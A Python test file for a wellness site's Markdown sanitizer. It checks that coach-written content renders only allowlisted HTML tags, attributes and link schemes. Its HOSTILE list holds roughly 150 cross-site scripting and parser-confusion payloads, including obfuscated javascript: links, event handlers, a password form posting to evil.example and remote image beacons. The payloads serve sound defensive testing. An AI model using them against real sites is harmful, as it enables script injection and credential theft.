"""Markdown is hostile until it is cleaned: whatever a coach writes, only what we allow reaches a page."""

from __future__ import annotations

import re
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from wellness.library.markdown import render_markdown

ALLOWED = {
    "p": set(), "br": set(), "hr": set(), "em": set(), "strong": set(), "code": set(), "pre": set(), "blockquote": set(),
    "ul": set(), "ol": {"start"}, "li": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(),
    "a": {"href", "rel"}, "img": {"src", "alt"},
    "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": set(), "td": set(),
}  # fmt: skip
"""Written out here again: a tag or attribute is allowed because this list says so, not because the program does."""


def elements(html: str) -> list[Element]:
    """What a browser would make of the HTML inside an element of the page."""
    tree = html5lib.parseFragment(html, container="div", treebuilder="etree", namespaceHTMLElements=False)
    return [element for element in tree.iter() if element is not tree]


def is_own(address: str) -> bool:
    return re.fullmatch(r"/(?![/\\])[^\\\s]*", address) is not None


def faults(html: str) -> list[str]:
    """Everything in the HTML that may not be there."""
    found = []
    for element in elements(html):
        tag = element.tag if isinstance(element.tag, str) else "comment"
        if tag not in ALLOWED:
            found.append(f"<{tag}>")
            continue
        found += [f"<{tag} {name}>" for name in element.attrib if name not in ALLOWED[tag]]
        href, src = element.get("href"), element.get("src")
        if href is not None and not (
            is_own(href) or href.startswith("#") or urlsplit(href).scheme in ("https", "tel", "sms", "mailto")
        ):
            found.append(f"href={href}")
        if src is not None and not (is_own(src) and src.startswith("/media/") and ".." not in src):
            found.append(f"src={src}")
    return found


HOSTILE = [
    # scripts and other elements that run or load something
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "text <script>alert(1)</script> text",
    "- item <script>alert(1)</script>",
    "> quote <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "### heading <script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    "<video src=/media/x.mp4 onerror=alert(1)></video>",
    "<audio autoplay src=https://evil.example/x.mp3></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open id=x>over the page</dialog>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<frameset onload=alert(1)></frameset>",
    "<body onload=alert(1)>",
    "<html manifest=https://evil.example/x>",
    "<head><base href='https://evil.example/'></head>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<portal src=https://evil.example></portal>",
    "<x-y onclick=alert(1)>custom</x-y>",
    # style, id and name
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class=admin>x</p>",
    "<p id=csrf_token>x</p>",
    "<a id=location name=location href='/x'>x</a>",
    "<img name=getElementById src=/media/x.png alt=x>",
    "<form id=forms><input name=action></form>",
    "<p data-pacer='x' aria-hidden=true hidden>x</p>",
    "<p contenteditable accesskey=x tabindex=1>x</p>",
    "<p is=x-y slot=z part=q title=t lang=xx>x</p>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=/media/x.png alt=x onload=alert(1)>",
    "<img src=/media/x.png alt=x ONLOAD = 'alert(1)'>",
    "<p onmouseover=alert(1)>x</p>",
    "<a href='/x' onclick='alert(1)'>x</a>",
    "<br onclick=alert(1)>",
    "<td onclick=alert(1)>x</td>",
    "<p/onclick=alert(1)>x</p>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<p `onclick=alert(1)`>x</p>",
    '<img """><img src=x onerror=alert(1)">',
    # links to scripts, written and disguised
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](//javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](http://evil.example/)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "[x]\n\n[x]: data:text/html,x",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href='/x' ping='https://evil.example' target=_blank download>x</a>",
    "<area href=javascript:alert(1)>",
    # links that leave the site without saying so
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](/\\evil.example/)",
    "[x](/\t/evil.example)",
    "[x](https:evil.example)",
    "[x](///evil.example)",
    "<a href='/&#47;evil.example'>x</a>",
    "<a href='/&#92;evil.example'>x</a>",
    "<a href='/\n/evil.example'>x</a>",
    "[x](relative/../../admin)",
    "[x](?lang=es)",
    # pictures that would tell somebody who looked
    "![x](https://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "![x](\\\\evil.example/a.png)",
    "![x](data:image/png;base64,AAAA)",
    "![x](javascript:alert(1))",
    "![x](/media/../admin/)",
    "![x](/static/img/mark.svg)",
    "![x](/media\\evil)",
    "![x](http:/media/x.png)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "<img src='/media/x.png' alt=x srcset='https://evil.example/a.png 2x'>",
    "<img src='/media/x.png' alt=x longdesc='javascript:alert(1)' usemap=#m>",
    "<img src='/media/x.png' alt=x lowsrc='https://evil.example'>",
    "<image href='https://evil.example/a.png'>",
    "<picture><source srcset='https://evil.example/a.png'></picture>",
    "<table background='https://evil.example/a.png'><tr><td background=x>x</td></tr></table>",
    # SVG, MathML and what parsers are confused by
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x'></use></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<p><svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "</p></div></main></body><script>alert(1)</script>",
    "</div></main><h1>Another page</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "\x02stx:wzxhzdk:0\x03 <b onclick=x>y</b>",
    "\x02wzxhzdk:0\x03",
    "*<em onclick=x>*</em>",
    "[<img src=x onerror=alert(1)>](/x)",
    "[x](/x \"title' onclick='alert(1)\")",
    "![\" onerror=\"alert(1)](/media/x.png)",
    "{: onclick=alert(1) }\n\ntext",
    "text {: #id .class onclick=alert(1) }",
    "# top\n\ntext\n===\n\ntext\n---",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_leaves_only_what_we_allow(text: str) -> None:
    assert faults(render_markdown(text)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_inside_other_markdown_leaves_only_what_we_allow(text: str) -> None:
    for frame in (
        "- {}\n- next",
        "> {}",
        "1. one\n\n    {}",
        "**{}**",
        "[{}](/x)",
        "![{}](/media/x.png)",
        "| a |\n|---|\n| {} |",
    ):
        assert faults(render_markdown(frame.format(text))) == []


fragments = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(
        [
            "<",
            ">",
            '"',
            "'",
            "`",
            "*",
            "_",
            "[",
            "](",
            ")",
            "![",
            "<!--",
            "-->",
            "</",
            "/>",
            "\n\n",
            "\n",
            "    ",
            "> ",
            "- ",
            "&#",
            ";",
            "\\",
            "|",
        ]
    ),
    st.text(max_size=6),
)


@given(st.lists(fragments, min_size=1, max_size=8))
def test_hostile_fragments_in_any_order_leave_only_what_we_allow(pieces: list[str]) -> None:
    html = render_markdown("".join(pieces))
    assert faults(html) == []


def test_the_faults_are_seen_where_they_are() -> None:
    """The judge of these tests has to be able to say no."""
    seen = faults(
        "<script>x</script><p onclick=x id=a>y</p><a href='//h'>z</a><a href='JAVASCRIPT:x'>z</a><img src='https://h/x.png'>"
        "<a href='/\\h'>z</a><svg></svg><img src='/media/../x'>"
    )
    assert len(seen) == 9


GOOD = {
    "**strong** and *soft*": "<p><strong>strong</strong> and <em>soft</em></p>",
    "### Three": "<h3>Three</h3>",
    "1. one\n2. two": "<ol>\n<li>one</li>\n<li>two</li>\n</ol>",
    "3. three\n4. four": '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>',
    "- one\n- two": "<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
    "> quoted": "<blockquote>\n<p>quoted</p>\n</blockquote>",
    "`code`": "<p><code>code</code></p>",
    "one  \ntwo": "<p>one<br>\ntwo</p>",
    "a < b & c": "<p>a &lt; b &amp; c</p>",
    "it's \"so\" -- here...": "<p>it’s “so” – here…</p>",
    "[help](/help)": '<p><a href="/help" rel="noopener noreferrer">help</a></p>',
    "[there](#part)": '<p><a href="#part" rel="noopener noreferrer">there</a></p>',
    "[988](tel:988)": '<p><a href="tel:988" rel="noopener noreferrer">988</a></p>',
    "[text](sms:741741)": '<p><a href="sms:741741" rel="noopener noreferrer">text</a></p>',
    "[CASEL](https://casel.org/)": '<p><a href="https://casel.org/" rel="noopener noreferrer">CASEL</a></p>',
    "<https://casel.org/>": '<p><a href="https://casel.org/" rel="noopener noreferrer">https://casel.org/</a></p>',
    "![A square](/media/square.png)": '<p><img alt="A square" src="/media/square.png"></p>',
    "": "",
}  # fmt: skip


@pytest.mark.parametrize(("text", "html"), GOOD.items(), ids=GOOD)
def test_good_markdown_becomes_plain_html(text: str, html: str) -> None:
    assert render_markdown(text) == html
    assert faults(html) == []


def test_a_table_is_a_table() -> None:
    tags = [element.tag for element in elements(render_markdown("| a | b |\n|---|---|\n| 1 | 2 |"))]
    assert tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


@pytest.mark.parametrize(
    "image",
    ["<img src=x>", "<img alt=x>", '<img src="/media/a.jpg">', '<img src="https://evil.test/a.jpg" alt="a > b">'],
)
def test_a_picture_written_as_html_without_its_address_or_its_words_is_left_out(image: str) -> None:
    assert "<img" not in render_markdown(f"Before {image} after")


def test_a_picture_with_its_address_and_its_words_stays() -> None:
    assert 'alt="1 &gt; 0"' in render_markdown("![1 > 0](/media/a.jpg)").replace('alt="1 > 0"', 'alt="1 &gt; 0"')
